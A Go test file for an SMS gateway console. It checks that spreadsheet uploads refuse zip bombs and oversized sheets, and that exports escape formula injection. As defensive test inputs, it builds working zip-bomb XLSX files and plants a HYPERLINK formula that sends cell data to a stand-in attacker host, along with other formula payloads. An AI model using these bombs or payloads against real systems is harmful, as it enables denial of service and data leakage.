package ui_test

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"runtime"
	"strings"
	"sync"
	"testing"

	"github.com/xuri/excelize/v2"

	"smsgw/app"
)

// rawXLSX builds the smallest workbook excelize opens, its one sheet's
// rows written by rows (called with the sheet's writer), deflated at the
// best ratio: a zip bomb when rows writes a lot.
func rawXLSX(t *testing.T, rows func(w io.Writer)) []byte {
	return rawXLSXWithStrings(t, rows, nil)
}

// rawXLSXWithStrings is rawXLSX with a shared strings part written by sst.
func rawXLSXWithStrings(t *testing.T, rows, sst func(w io.Writer)) []byte {
	t.Helper()
	var buf bytes.Buffer
	z := zip.NewWriter(&buf)
	z.RegisterCompressor(zip.Deflate, func(w io.Writer) (io.WriteCloser, error) {
		return flate.NewWriter(w, flate.BestCompression)
	})
	part := func(name, body string) {
		w, err := z.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		io.WriteString(w, body)
	}
	part("[Content_Types].xml", `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">`+
		`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>`+
		`<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>`+
		`<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`)
	part("_rels/.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`+
		`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`)
	part("xl/workbook.xml", `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">`+
		`<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`)
	part("xl/_rels/workbook.xml.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`+
		`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`)
	if sst != nil {
		w, err := z.Create("xl/sharedStrings.xml")
		if err != nil {
			t.Fatal(err)
		}
		io.WriteString(w, `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">`)
		sst(w)
		io.WriteString(w, `</sst>`)
	}
	w, err := z.Create("xl/worksheets/sheet1.xml")
	if err != nil {
		t.Fatal(err)
	}
	io.WriteString(w, `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`)
	rows(w)
	io.WriteString(w, `</sheetData></worksheet>`)
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// repeatRows writes n rows each holding the same inline number.
func repeatRows(n int) func(w io.Writer) {
	return func(w io.Writer) {
		row := []byte(`<row><c t="inlineStr"><is><t>13800138000</t></is></c></row>`)
		chunk := bytes.Repeat(row, 1000)
		for range n / 1000 {
			w.Write(chunk)
		}
	}
}

// peakHeap samples the heap in use until stop is called, then answers the
// highest figure seen.
func peakHeap() (stop func() uint64) {
	var peak uint64
	done, wg := make(chan struct{}), sync.WaitGroup{}
	sample := func() {
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		peak = max(peak, m.HeapInuse)
	}
	wg.Go(func() {
		for {
			sample()
			select {
			case <-done:
				return
			default:
				runtime.Gosched()
			}
		}
	})
	return func() uint64 {
		close(done)
		wg.Wait()
		sample()
		return peak
	}
}

// A small XLSX that inflates to hundreds of MB is refused, naming the
// limit, without the server's heap following it.
func TestUploadRefusesZipBombXLSX(t *testing.T) {
	if testing.Short() {
		t.Skip("builds a 330 MB sheet")
	}
	f := newFixture(t)
	consoleUser(t, f, "bomb", app.RoleOperator)
	b := newBrowser(t, f.srv.URL)
	b.login("bomb", "Console2026")
	bomb := rawXLSX(t, repeatRows(6_000_000)) // 6 million rows, 330 MB of XML
	if len(bomb) > 2<<20 {
		t.Fatalf("the bomb is %d bytes; want a small file", len(bomb))
	}
	runtime.GC()
	stop := peakHeap()
	status, ans := b.upload("bomb.xlsx", bomb)
	peak := stop()
	if status != 400 || !strings.Contains(fmt.Sprint(ans["message"]), "128 MB") {
		t.Errorf("a zip bomb: %d %v; want 400 naming the 128 MB limit", status, ans)
	}
	if peak > 200<<20 {
		t.Errorf("heap in use reached %d MB reading a %d KB file", peak>>20, len(bomb)>>10)
	}
}

// Shared strings are parsed whole: a 100 MB part of tiny strings (within
// the total limit) is refused before it is, naming the part.
func TestUploadRefusesSharedStringsBomb(t *testing.T) {
	if testing.Short() {
		t.Skip("builds a 100 MB part")
	}
	f := newFixture(t)
	consoleUser(t, f, "sst", app.RoleOperator)
	b := newBrowser(t, f.srv.URL)
	b.login("sst", "Console2026")
	bomb := rawXLSXWithStrings(t, func(w io.Writer) {
		io.WriteString(w, `<row><c t="s"><v>0</v></c></row>`)
	}, func(w io.Writer) {
		chunk := bytes.Repeat([]byte(`<si><t>1</t></si>`), 1000)
		for range 6000 { // 6 million strings, 100 MB
			w.Write(chunk)
		}
	})
	runtime.GC()
	stop := peakHeap()
	status, ans := b.upload("strings.xlsx", bomb)
	peak := stop()
	if status != 400 || !strings.Contains(fmt.Sprint(ans["message"]), "sharedStrings.xml 解压后超过 24 MB") {
		t.Errorf("a shared strings bomb: %d %v; want 400 naming the part and its limit", status, ans)
	}
	if peak > 200<<20 {
		t.Errorf("heap in use reached %d MB reading a %d KB file", peak>>20, len(bomb)>>10)
	}
}

// Rows past 100,000 plus a header are refused, from XLSX and CSV alike,
// even when they fit the size limits (here, one number repeated).
func TestUploadRefusesTooManyRows(t *testing.T) {
	f := newFixture(t)
	consoleUser(t, f, "rows", app.RoleOperator)
	b := newBrowser(t, f.srv.URL)
	b.login("rows", "Console2026")
	xlsx := rawXLSX(t, repeatRows(150_000))
	csv := []byte(strings.Repeat("13800138000\n", 150_000))
	for name, content := range map[string][]byte{"rows.xlsx": xlsx, "rows.csv": csv} {
		status, ans := b.upload(name, content)
		if status != 400 || !strings.Contains(fmt.Sprint(ans["message"]), "100000 行") {
			t.Errorf("%s of 150,000 rows: %d %v; want 400 naming the 100000-row limit", name, status, ans)
		}
	}
	// Blank lines past the limit are not rows.
	status, ans := b.upload("blank.csv", []byte("13800138000\n"+strings.Repeat("\n", 150_000)))
	if status != 200 || len(ans["numbers"].([]any)) != 1 {
		t.Errorf("one number then blank lines: %d %v", status, ans)
	}
}

// A row reaching column XFD keeps only what fits: a sheet of such rows
// would otherwise grow to 16,384 cells a row.
func TestUploadRefusesTooManyColumns(t *testing.T) {
	f := newFixture(t)
	consoleUser(t, f, "cols", app.RoleOperator)
	b := newBrowser(t, f.srv.URL)
	b.login("cols", "Console2026")
	wide := rawXLSX(t, func(w io.Writer) {
		for i := range 1000 {
			fmt.Fprintf(w, `<row r="%d"><c r="A%d" t="inlineStr"><is><t>1380013%04d</t></is></c><c r="XFD%d"><v>1</v></c></row>`, i+1, i+1, i, i+1)
		}
	})
	status, ans := b.upload("wide.xlsx", wide)
	if status != 400 || !strings.Contains(fmt.Sprint(ans["message"]), "64 列") {
		t.Errorf("rows to column XFD: %d %v; want 400 naming the 64-column limit", status, ans)
	}
}

// The blacklist and contacts imports read through the same limits.
func TestBlacklistImportRefusesZipBomb(t *testing.T) {
	if testing.Short() {
		t.Skip("builds a 330 MB sheet")
	}
	f := newFixture(t)
	admin := f.mustAdmin(t)
	bomb := rawXLSX(t, repeatRows(6_000_000))
	// So does the contacts import (issue 15).
	for _, path := range []string{"/api/v1/blacklist/import", "/api/v1/contacts/import"} {
		var body bytes.Buffer
		w := multipart.NewWriter(&body)
		w.WriteField("book", "org")
		fw, _ := w.CreateFormFile("file", "list.xlsx")
		fw.Write(bomb)
		w.Close()
		runtime.GC()
		stop := peakHeap()
		code, resp := f.send(t, "POST", path, w.FormDataContentType(), admin, &body)
		peak := stop()
		if code != 400 || !strings.Contains(resp, "128 MB") {
			t.Errorf("%s of a zip bomb: %d %s", path, code, resp)
		}
		if peak > 200<<20 {
			t.Errorf("%s: heap in use reached %d MB", path, peak>>20)
		}
	}
}

// Text a caller controls, even without an account, is exported as text:
// a CSV cell that a spreadsheet would run as a formula gets a leading
// quote, and an XLSX cell is a string, never a formula. Numbers are
// exported normalised, without a +, so they stay as they are.
func TestExportEscapesFormulas(t *testing.T) {
	f := newFixture(t)
	admin := f.mustAdmin(t)
	const ua = `=HYPERLINK("http://evil.example/?x="&A1,"点击")`
	req, _ := http.NewRequest("POST", f.srv.URL+"/api/v1/departments", strings.NewReader(`{"name":"导出注入处"}`))
	req.Header.Set("Authorization", "Bearer "+admin)
	req.Header.Set("User-Agent", ua)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()

	status, body := f.call(t, "GET", "/api/v1/audit/export?format=csv&action=POST", admin, "")
	if status != 200 || !strings.Contains(body, `"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")"`) {
		t.Errorf("csv export of a formula User-Agent: %d %q", status, body)
	}
	status, body = f.call(t, "GET", "/api/v1/audit/export?format=xlsx&action=POST", admin, "")
	x, err := excelize.OpenReader(strings.NewReader(body))
	if status != 200 || err != nil {
		t.Fatalf("xlsx: %d %v", status, err)
	}
	rows, _ := x.GetRows("Sheet1")
	if len(rows) < 2 || rows[1][12] != ua {
		t.Fatalf("xlsx rows %q", rows)
	}
	if formula, _ := x.GetCellFormula("Sheet1", "M2"); formula != "" {
		t.Errorf("the User-Agent became the formula %q", formula)
	}

	code, body := f.call(t, "POST", "/api/v1/blacklist", admin, `{"entries":[{"phone":"+86 139 0013 9000","reason":"@SUM(1+1)"},{"phone":"13800138000","reason":"-1+2"}]}`)
	if code >= 300 {
		t.Fatalf("add to the blacklist: %d %s", code, body)
	}
	_, body = f.call(t, "GET", "/api/v1/blacklist/export?format=csv", admin, "")
	for _, want := range []string{"13900139000,0,'@SUM(1+1)", "13800138000,0,'-1+2"} {
		if !strings.Contains(body, want) {
			t.Errorf("blacklist csv lacks %q: %q", want, body)
		}
	}
}
